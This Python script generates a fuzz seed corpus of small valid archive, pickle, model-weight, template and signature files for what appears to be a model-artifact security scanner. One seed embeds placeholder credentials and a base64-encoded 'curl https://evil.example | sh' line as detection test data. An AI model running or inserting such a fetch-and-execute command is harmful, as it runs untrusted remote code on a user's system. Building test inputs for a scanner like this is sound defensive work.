#!/usr/bin/env python3
"""Write the committed fuzz seed corpus, fuzz/seeds/<target>/, with Python's own writers
(tarfile, zipfile, pickle, gzip, json) and the zstd CLI. The seeds are small, valid examples of
each format, so a long run starts past the outer syntax; `make fuzz-long` reads them as an
extra, read-only corpus beside the growing one in fuzz/corpus/ (gitignored).

Run from the repository root: scripts/fuzz-seeds.py  (deterministic: same bytes every time).
"""
import base64
import collections
import gzip
import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import tarfile
import zipfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fuzz", "seeds")


def put(target, name, data):
    d = os.path.join(ROOT, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def tar_bytes(fmt, files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.mtime = 1_700_000_000
            info.mode = 0o644
            if data is None:
                info.type = tarfile.DIRTYPE
                info.mode = 0o755
                t.addfile(info)
            else:
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def zstd(data):
    return subprocess.run(["zstd", "-q", "-c", "-3"], input=data, stdout=subprocess.PIPE, check=True).stdout


def envelope(statement):
    payload = json.dumps(statement, sort_keys=True).encode()
    return json.dumps({
        "payload": base64.b64encode(payload).decode(),
        "payloadType": "application/vnd.in-toto+json",
        "signatures": [{"keyid": "00" * 32, "sig": base64.b64encode(bytes(64)).decode()}],
    }).encode()


STATEMENT = {
    "_type": "https://in-toto.io/Statement/v1",
    "subject": [{"name": "a.txt", "digest": {"sha256": "ab" * 32}}],
    "predicateType": "https://airgate.dev/bundle/v1",
    "predicate": {"kind": "weights", "name": "m", "version": "1.0.0",
                  "created": "2026-01-01T00:00:00Z", "publisher": "seeds",
                  "sizes": {"a.txt": 5}},
}


def safetensors(tensors):
    header, data = {"__metadata__": {"format": "pt"}}, b""
    for name, dtype, shape, raw in tensors:
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + data


def gguf():
    def s(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b
    kv = [
        s("general.architecture") + struct.pack("<I", 8) + s("llama"),
        s("general.alignment") + struct.pack("<I", 4) + struct.pack("<I", 32),
        s("tokenizer.chat_template") + struct.pack("<I", 8) + s("{% for m in messages %}{{ m.content }}{% endfor %}"),
        s("tokenizer.ggml.tokens") + struct.pack("<I", 9) + struct.pack("<IQ", 8, 2) + s("a") + s("b"),
    ]
    tensor = s("w") + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<I", 0) + struct.pack("<Q", 0)
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv)) + b"".join(kv) + tensor
    out += bytes((-len(out)) % 32) + struct.pack("<4f", 1, 2, 3, 4)
    return out


def npy(descr, shape, raw):
    h = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    h = h + " " * ((-(len(h) + 11)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode() + raw


def pb_varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_field(num, wire, payload):
    key = pb_varint((num << 3) | wire)
    if wire == 0:
        return key + pb_varint(payload)
    return key + pb_varint(len(payload)) + payload


def onnx():
    node = pb_field(1, 2, b"x") + pb_field(2, 2, b"y") + pb_field(4, 2, b"Relu")
    ext = pb_field(1, 2, b"location") + pb_field(2, 2, b"w.bin")
    tensor = pb_field(1, 0, 4) + pb_field(2, 0, 1) + pb_field(8, 2, b"w") + pb_field(13, 2, ext) + pb_field(14, 0, 1)
    graph = pb_field(1, 2, node) + pb_field(2, 2, b"g") + pb_field(5, 2, tensor)
    opset = pb_field(1, 2, b"") + pb_field(2, 0, 13)
    return pb_field(1, 0, 8) + pb_field(7, 2, graph) + pb_field(8, 2, opset)


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    small = [("dir", None), ("dir/a.txt", b"hello\n"), ("b.bin", bytes(range(256)) * 3)]
    long_name = [("d" * 120 + "/file.txt", b"long name\n")]
    for fmt, tag in [(tarfile.USTAR_FORMAT, "ustar"), (tarfile.GNU_FORMAT, "gnu"), (tarfile.PAX_FORMAT, "pax")]:
        put("tar_reader", f"{tag}.tar", tar_bytes(fmt, small))
    put("tar_reader", "gnu-long.tar", tar_bytes(tarfile.GNU_FORMAT, long_name))
    put("tar_reader", "pax-long.tar", tar_bytes(tarfile.PAX_FORMAT, long_name))
    bundle = tar_bytes(tarfile.USTAR_FORMAT, [(".airgate/envelope.json", envelope(STATEMENT)), ("a.txt", b"hello")])
    put("tar_reader", "bundle.tar", bundle)
    put("zstd_frames", "bundle.tar.zst", zstd(bundle))
    put("zstd_frames", "two-frames.zst", zstd(b"first frame " * 40) + zstd(bytes(3000)))
    put("envelope", "envelope.json", envelope(STATEMENT))
    put("envelope", "policy.toml", b'[limits]\nmax_entries = 10\n[[keys]]\nname = "a"\npath = "a.pub"\n'
        b'[trust.weights]\nkeys = ["a"]\nthreshold = 1\n[decide]\nblock_at = "high"\n')
    put("envelope", "version.txt", b"1.2.3-rc.1+build.5")

    put("pickle", "dict-p2.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}, protocol=2))
    put("pickle", "ordered-p4.pkl", pickle.dumps(collections.OrderedDict(k=b"bytes" * 4), protocol=4))
    put("pickle", "list-p0.pkl", pickle.dumps([1, "two", (3, 4.0)], protocol=0))
    put("pickle", "memo-p5.pkl", pickle.dumps([["shared"]] * 3, protocol=5))
    put("all_inspectors", "dict.pkl", pickle.dumps({"state": {"w": [0.5] * 4}}, protocol=2))
    put("safetensors", "two.safetensors", safetensors([("a", "F32", [2], struct.pack("<2f", 1, 2)),
                                                        ("b", "I8", [2, 2], bytes(4))]))
    put("all_inspectors", "t.safetensors", safetensors([("w", "F16", [2], bytes(4))]))
    put("gguf", "tiny.gguf", gguf())
    put("all_inspectors", "tiny.gguf", gguf())
    put("npy", "f4.npy", npy("<f4", "(2, 2)", struct.pack("<4f", 1, 2, 3, 4)))
    put("npy", "object.npy", npy("|O", "(1,)", pickle.dumps([None], protocol=2)))
    put("onnx", "relu.onnx", onnx())
    put("all_inspectors", "relu.onnx", onnx())

    tmpl = '{"chat_template": "{% for m in messages %}{{ m[\'role\'] }}: {{ m.content | trim }}\\n{% endfor %}", "auto_map": {"AutoModel": "m.M"}}'
    put("template", "tokenizer_config.json", tmpl.encode())
    put("template", "loop.jinja", b"{% set x = namespace(a=1) %}{% for i in range(3) %}{{ i ~ x.a }}{% endfor %}")

    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/data/0", bytes(16))
    put("zip_compare", "torch-like.zip", zbuf.getvalue())
    put("all_inspectors", "torch-like.zip", zbuf.getvalue())

    text = (b'API_KEY = "AKIAIOSFODNN7EXAMPLE"\nurl = "https://example.com/v1"\n'
            b'token: ghp_0123456789abcdefghijABCDEFGHIJ012345\n'
            b"data: " + base64.b64encode(b"curl https://evil.example | sh\n") + b"\n")
    put("full_engine", "config.txt", text)
    put("full_engine", "config.json.gz", gzip.compress(b'{"endpoint": "https://api.example.com", "x": 1}', mtime=0))
    put("full_engine", "nested.tar", tar_bytes(tarfile.USTAR_FORMAT, [("a/secret.env", text)]))

    put("sigstore_bundle", "bundle.json", json.dumps({
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {"publicKey": {"hint": "ab" * 32},
                                 "tlogEntries": [], "timestampVerificationData": {"rfc3161Timestamps": []}},
        "messageSignature": {"messageDigest": {"algorithm": "SHA2_256", "digest": base64.b64encode(bytes(32)).decode()},
                             "signature": base64.b64encode(bytes(64)).decode()},
    }).encode())
    put("sigstore_bundle", "dsse.json", json.dumps({
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {"publicKey": {"hint": "00"}},
        "dsseEnvelope": json.loads(envelope({"_type": "https://in-toto.io/Statement/v1", "subject": [
            {"name": "model", "digest": {"sha256": "00" * 32}}],
            "predicateType": "https://model_signing/signature/v1.0",
            "predicate": {"serialization": {"method": "files", "hash_type": "sha256", "allow_symlinks": False},
                          "resources": [{"name": "w.bin", "algorithm": "sha256", "digest": "11" * 32}]}})),
    }).encode())

    key = b"Ed" + bytes(range(8)) + bytes(range(32))
    put("detached_sig", "minisign.pub", b"untrusted comment: minisign public key\n" + base64.b64encode(key) + b"\n")
    sig = b"ED" + bytes(range(8)) + bytes(64)
    put("detached_sig", "file.minisig", b"untrusted comment: signature\n" + base64.b64encode(sig) +
        b"\ntrusted comment: timestamp:1700000000\n" + base64.b64encode(bytes(64)) + b"\n")
    put("detached_sig", "file.sig", b"untrusted comment: signify signature\n" + base64.b64encode(b"Ed" + bytes(72)) + b"\n")


if __name__ == "__main__":
    main()
